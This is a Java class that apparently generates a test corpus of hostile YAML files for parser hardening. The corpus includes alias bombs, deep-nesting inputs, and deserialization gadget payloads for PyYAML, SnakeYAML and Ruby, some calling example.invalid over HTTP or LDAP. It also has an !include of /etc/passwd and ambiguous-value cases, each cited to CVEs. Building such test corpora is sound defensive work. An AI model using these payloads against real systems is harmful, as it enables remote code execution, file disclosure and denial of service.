package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.AMBIGUITY;
import static org.junitsandbox.corpus.Attack.BOMB;
import static org.junitsandbox.corpus.Attack.CONCATENATED;
import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCODING;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.LONG_NAME;
import static org.junitsandbox.corpus.Attack.LOOP;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.NESTING;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** YAML documents: aliases that multiply, tags that construct objects, and values that programs read differently. */
final class YamlFiles {

    private static final String TWIN = "name: harmless\ncount: 3\nitems:\n  - one\n  - \"two\"\n";
    private static final Family YAML = Family.of(Format.YAML, TWIN);
    private static final int MANY = 20_000;

    private YamlFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(aliases(), tags(), loads(), readings(), errors(), ends())
                .flatMap(all -> all);
    }

    private static Stream<HostileFile> aliases() {
        String section = "YAML 1.2.2 section 7.1";
        return Stream.of(
                YAML.begin(
                                BOMB,
                                "aliases",
                                "Nine layers of lists, each with the one below ten times: a billion texts.",
                                "CWE-776, CVE-2019-11253")
                        .expandsTo(1_000_000_000, 1_000_000_000, 9)
                        .content(Content.of(layers("[", "*a", "]")))
                        .build(),
                YAML.begin(
                                BOMB,
                                "alias-keys",
                                "Nine layers of maps, each with the one below ten times: a billion texts.",
                                "CWE-776, " + section)
                        .expandsTo(1_000_000_000, 1_000_000_000, 9)
                        .content(Content.of(maps()))
                        .build(),
                YAML.begin(
                                BOMB,
                                "alias-text",
                                "A text of 10,000 characters is used 10,000 times: 100 MB of text.",
                                "CWE-776, " + section)
                        .expandsTo(100_000_000, 10_000, 1)
                        .content(Content.of("a: &a " + "x".repeat(10_000) + "\nb: [" + "*a,".repeat(9_999) + "*a]\n"))
                        .build(),
                YAML.file(LOOP, "list", "A list holds itself.", section, "items: &a\n  - *a\n"),
                YAML.file(LOOP, "map", "A map holds itself.", section, "item: &a\n  name: *a\n"));
    }

    private static String layers(String start, String alias, String end) {
        return IntStream.rangeClosed(1, 9)
                .mapToObj(layer -> "a" + layer + ": &a" + layer + " " + start
                        + (alias + (layer - 1) + ",").repeat(9) + alias + (layer - 1) + end + "\n")
                .collect(Collectors.joining("", "a0: &a0 x\n", ""));
    }

    private static String maps() {
        return IntStream.rangeClosed(1, 9)
                .mapToObj(layer -> "a" + layer + ": &a" + layer + " {"
                        + IntStream.range(0, 10)
                                .mapToObj(key -> "k" + key + ": *a" + (layer - 1))
                                .collect(Collectors.joining(", "))
                        + "}\n")
                .collect(Collectors.joining("", "a0: &a0 x\n", ""));
    }

    private static HostileFile tag(String variant, String description, String reference, String value) {
        return YAML.file(ACTIVE_CONTENT, variant, description, "CWE-502, " + reference, "name: " + value + "\n");
    }

    private static Stream<HostileFile> tags() {
        return Stream.of(
                tag(
                        "python-apply",
                        "A tag of PyYAML calls a function, which starts a program.",
                        "CVE-2017-18342",
                        "!!python/object/apply:os.system [\"true hostile\"]"),
                tag(
                        "python-new",
                        "Tags of PyYAML that only make objects start a program together.",
                        "CVE-2020-1747",
                        "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval ,"
                                + " [\"__import__('os').system('true hostile')\"]]]"),
                tag(
                        "java-script-engine",
                        "A tag of SnakeYAML makes objects, which load classes from the network.",
                        "CVE-2022-1471",
                        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                                + " [[!!java.net.URL [\"http://example.invalid/\"]]]]"),
                tag(
                        "java-data-source",
                        "A tag of SnakeYAML makes a data source, which asks a directory in the network.",
                        "CVE-2022-1471",
                        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://example.invalid/x\"}"),
                tag(
                        "ruby-object",
                        "A tag of Ruby makes an object of any class.",
                        "CVE-2013-0156",
                        "!ruby/object:Gem::Installer {i: x}"),
                YAML.file(
                        EXTERNAL_REFERENCE,
                        "include",
                        "A tag that many programs know takes the text of /etc/passwd.",
                        "CWE-73, YAML 1.2.2 section 6.8.2",
                        "name: !include /etc/passwd\n"));
    }

    private static HostileFile.Builder load(Attack attack, String variant, String description, String text) {
        return YAML.begin(attack, variant, description, "CWE-770, YAML 1.2.2 section 3.1")
                .expandsTo(text.length(), MANY, 1)
                .content(Content.of(text));
    }

    private static Stream<HostileFile> loads() {
        return Stream.of(
                load(NESTING, "lists", "20,000 lists within each other.", "[".repeat(MANY) + "]".repeat(MANY) + "\n")
                        .reference("CVE-2022-25857")
                        .expandsTo(0, MANY, MANY)
                        .build(),
                load(NESTING, "maps", "20,000 maps within each other.", "{a: ".repeat(MANY) + "}".repeat(MANY) + "\n")
                        .reference("CVE-2022-25857")
                        .expandsTo(0, MANY, MANY)
                        .build(),
                load(NESTING, "dashes", "5,000 lists within each other, on one line.", "- ".repeat(5_000) + "x\n")
                        .reference("CVE-2022-25857")
                        .expandsTo(0, 5_000, 5_000)
                        .build(),
                load(MANY_ENTRIES, "items", "A list of 20,000 items.", "- x\n".repeat(MANY))
                        .build(),
                load(MANY_ENTRIES, "documents", "20,000 documents.", "--- x\n".repeat(MANY))
                        .build(),
                load(BOMB, "text", "A text of 300 kB.", "name: " + "x".repeat(300_000) + "\n")
                        .expandsTo(300_000, 1, 1)
                        .build(),
                load(LONG_NAME, "key", "A key of 100,000 characters.", "? " + "k".repeat(100_000) + "\n: x\n")
                        .expandsTo(100_000, 1, 1)
                        .build());
    }

    private static HostileFile reading(String variant, String description, String section, String text) {
        return YAML.file(AMBIGUITY, variant, description, section, text + "\n");
    }

    private static Stream<HostileFile> readings() {
        String schema = "YAML 1.2.2 section 10.3.2";
        return Stream.of(
                reading(
                        "duplicate-keys",
                        "A key is there twice, with two values.",
                        "YAML 1.2.2 section 3.2.1.3",
                        "role: guest\nrole: admin"),
                reading(
                        "merge-key",
                        "A merge key brings a value for a key that some programs do not see.",
                        "YAML 1.1 type merge",
                        "base: &a {role: admin}\nuser:\n  <<: *a"),
                reading("boolean", "A text that is false in YAML 1.1: the country code NO.", schema, "country: NO"),
                reading(
                        "octal",
                        "A number that is 8 in YAML 1.1 and 10 in YAML 1.2.",
                        schema,
                        "mode: 010"),
                reading("sexagesimal", "A time that is a number in YAML 1.1.", schema, "time: 22:30"),
                YAML.file(
                        CONCATENATED,
                        "second-document",
                        "A second document follows, which not all programs see.",
                        "YAML 1.2.2 section 9.2",
                        TWIN + "---\nname: second\n"),
                YAML.file(
                        CONCATENATED,
                        "behind-the-end",
                        "A second document follows behind the mark of the end.",
                        "YAML 1.2.2 section 9.2",
                        TWIN + "...\n---\nname: second\n"));
    }

    private static HostileFile malformed(String variant, String description, String section, String text) {
        return YAML.file(MALFORMED, variant, description, "YAML 1.2.2 section " + section, text + "\n");
    }

    private static Stream<HostileFile> errors() {
        return Stream.of(
                malformed("tab", "A tab stands for indentation.", "6.1", "items:\n\t- one"),
                malformed("no-anchor", "An alias of nothing.", "7.1", "name: *a"),
                malformed(
                        "indentation",
                        "A key is neither within the map nor outside of it.",
                        "8.2",
                        "a:\n    b: 1\n  c: 2"),
                malformed("brackets", "A list is closed as a map.", "7.4", "items: [one, two}"),
                malformed("escape", "An unknown escape.", "5.7", "name: \"\\y\""),
                malformed("tag", "A tag with a prefix that nobody declares.", "6.8.2", "name: !a!b c"),
                YAML.file(
                        ENCODING,
                        "not-utf-8",
                        "A text that is not valid UTF-8.",
                        "YAML 1.2.2 section 5.2",
                        Content.of(Bytes.latin1("name: caf\u00e9\n"))),
                YAML.file(ENCODING, "null", "The character 0.", "YAML 1.2.2 section 5.1", "name: a\0b\n"));
    }

    private static Stream<HostileFile> ends() {
        String section = "YAML 1.2.2 section 9.2";
        return Stream.of(
                YAML.file(EMPTY, "no-bytes", "The file has no bytes.", section, ""),
                YAML.file(EMPTY, "comment", "There is nothing but a comment.", section, "# nothing\n"),
                cut("in-key", "The file ends within a key.", TWIN.indexOf("unt")),
                cut("in-quotes", "The file ends within a quoted text.", TWIN.indexOf("wo\"")));
    }

    private static HostileFile cut(String variant, String description, int length) {
        return YAML.file(TRUNCATED, variant, description, "YAML 1.2.2 section 7.3", TWIN.substring(0, length));
    }
}
